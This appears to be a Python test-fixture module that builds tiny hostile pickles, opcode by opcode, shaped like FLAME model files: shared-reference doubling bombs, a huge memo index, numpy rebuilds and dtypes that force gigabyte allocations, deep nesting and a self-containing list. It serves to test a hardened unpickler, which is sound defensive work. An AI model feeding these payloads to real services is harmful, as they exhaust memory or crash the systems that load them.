"""Tiny hostile pickles written opcode by opcode: shared references that expand when something walks
them as a tree (numpy, repr), memo indices that ask the unpickler to grow its table, and numpy
rebuilds whose state declares more than the rebuild was charged for.

Each builder returns the bytes of a protocol-2 pickle of a dict, as a FLAME model file is.
``python -m hostile.pickle_bombs OUT_DIR`` (from ``tests/``) writes them all, for trying by hand.
"""

import pickle
import struct

P = pickle  # opcode names: P.MARK, P.DUP, ...


def _global(module, name):
    return P.GLOBAL + f"{module}\n{name}\n".encode()


def _str(text):
    data = text.encode()
    return P.BINUNICODE + struct.pack("<I", len(data)) + data


def _dict_of(key, value_ops):
    """``{key: value}`` as a whole pickle: PROTO 2, the value's opcodes, STOP."""
    return P.PROTO + b"\x02" + P.EMPTY_DICT + _str(key) + value_ops + P.SETITEM + P.STOP


def doubling_tuples(depth, key="v_template"):
    """``x = 1.0; x = (x, x)`` ``depth`` times: 2 bytes a level, ``2**depth`` leaves once expanded.

    ``np.asarray`` of it builds a ``(2,)*depth`` float array: depth 29 is 4 GiB from 300 bytes.
    """
    ops = P.BINFLOAT + struct.pack(">d", 1.0) + (P.DUP + P.TUPLE2) * depth
    return _dict_of(key, ops)


def doubling_lists(depth, key="v_template"):
    """The same with lists through the memo (MARK, BINGET, BINGET, LIST, BINPUT), as a chumpy ``Ch``
    would hold them: ``Ch.x`` is the nested list."""
    ops = P.BINFLOAT + struct.pack(">d", 1.0) + P.BINPUT + b"\x00" + P.POP
    for level in range(depth):
        slot = bytes([level % 256])
        ops += P.MARK + P.BINGET + slot + P.BINGET + slot + P.LIST + P.BINPUT + bytes([(level + 1) % 256])
        ops += P.POP
    ops += P.BINGET + bytes([depth % 256])
    chumpy = _global("chumpy.ch", "Ch") + P.EMPTY_TUPLE + P.NEWOBJ + P.EMPTY_DICT + _str("x")
    return _dict_of(key, chumpy + ops + P.SETITEM + P.BUILD)


def wide_list(width, key="v_template"):
    """One list holding the same element ``width`` times through DUP: one byte an element."""
    ops = P.EMPTY_LIST + P.MARK + P.BINFLOAT + struct.pack(">d", 1.0) + P.DUP * (width - 1) + P.APPENDS
    return _dict_of(key, ops)


def nested_dtype(depth):
    """``numpy.dtype`` asked for a structured type whose field list is the previous one, twice,
    ``depth`` times: numpy walks it as a tree (``2**depth`` fields)."""
    ops = P.MARK + _str("a") + _str("f8") + P.TUPLE + P.BINPUT + b"\x00" + P.POP
    ops += P.EMPTY_LIST + P.BINGET + b"\x00" + P.APPEND + P.BINPUT + b"\x01" + P.POP  # [("a", "f8")]
    for level in range(depth):
        previous = bytes([(level + 1) % 256])
        ops += (P.MARK + P.MARK + _str("a") + P.BINGET + previous + P.TUPLE + P.MARK + _str("b") + P.BINGET + previous
                + P.TUPLE + P.LIST + P.BINPUT + bytes([(level + 2) % 256]) + P.POP)
    ops += _global("numpy", "dtype") + P.BINGET + bytes([(depth + 1) % 256]) + P.TUPLE1 + P.REDUCE
    return _dict_of("v_template", ops)


def huge_memo_index(index=0xFFFFFFF0):
    """LONG_BINPUT at a huge index: an unpickler that keeps its memo as an array grows it to the index."""
    return _dict_of("v_template", P.BINFLOAT + struct.pack(">d", 1.0) + P.LONG_BINPUT + struct.pack("<I", index))


def object_array_regrown(count=10 ** 9):
    """numpy's rebuild charged for an empty object array, whose BUILD state then declares ``count``
    elements (the state holds an empty list)."""
    rebuild = (_global("numpy.core.multiarray", "_reconstruct") + _global("numpy", "ndarray") + P.BININT1 + b"\x00"
               + P.TUPLE1 + P.SHORT_BINBYTES + b"\x01b" + P.TUPLE3 + P.REDUCE)
    dtype = _global("numpy", "dtype") + _str("O8") + P.NEWFALSE + P.NEWTRUE + P.TUPLE3 + P.REDUCE
    dtype += P.MARK + P.BININT1 + b"\x03" + _str("|") + P.NONE + P.NONE + P.NONE + P.BININT + struct.pack("<i", -1)
    dtype += P.BININT + struct.pack("<i", -1) + P.BININT1 + b"\x3f" + P.TUPLE + P.BUILD
    state = (P.MARK + P.BININT1 + b"\x01" + P.LONG1 + _long_bytes(count) + P.TUPLE1 + dtype + P.NEWFALSE
             + P.EMPTY_LIST + P.TUPLE + P.BUILD)
    return _dict_of("v_template", rebuild + state)


def scalar_without_data(elements=2 ** 27 - 8, times=3):
    """numpy's scalar rebuild given only a dtype of ``elements`` float64 (a subarray type), ``times``
    over: numpy allocates and zeroes each whole item (1 GiB here) from a few bytes."""
    dtype = _global("numpy", "dtype") + _str("f8") + P.LONG1 + _long_bytes(elements) + P.TUPLE1 + P.TUPLE2
    dtype += P.TUPLE1 + P.REDUCE + P.BINPUT + b"\x00" + P.POP
    one = _global("numpy.core.multiarray", "scalar") + P.BINGET + b"\x00" + P.TUPLE1 + P.REDUCE
    return _dict_of("v_template", dtype + P.MARK + one * times + P.TUPLE)


def deep_lists(depth=100_000):
    """Lists inside lists ``depth`` deep (2 bytes a level): recursive walkers overflow the stack."""
    return _dict_of("v_template", P.MARK * depth + P.LIST * depth)


def self_containing_list():
    """A list that contains itself."""
    return _dict_of("v_template", P.EMPTY_LIST + P.BINPUT + b"\x00" + P.BINGET + b"\x00" + P.APPEND)


def _long_bytes(value):
    data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return bytes([len(data)]) + data


ALL = {
    "doubling_tuples_29": lambda: doubling_tuples(29),
    "doubling_lists_29": lambda: doubling_lists(29),
    "nested_dtype_28": lambda: nested_dtype(28),
    "huge_memo_index": huge_memo_index,
    "object_array_regrown": object_array_regrown,
    "scalar_without_data": scalar_without_data,
    "deep_lists": deep_lists,
    "self_containing_list": self_containing_list,
}


if __name__ == "__main__":
    import pathlib
    import sys

    out = pathlib.Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    for name, build in ALL.items():
        (out / f"{name}.pkl").write_bytes(build())
        print(name, len(build()), "bytes")
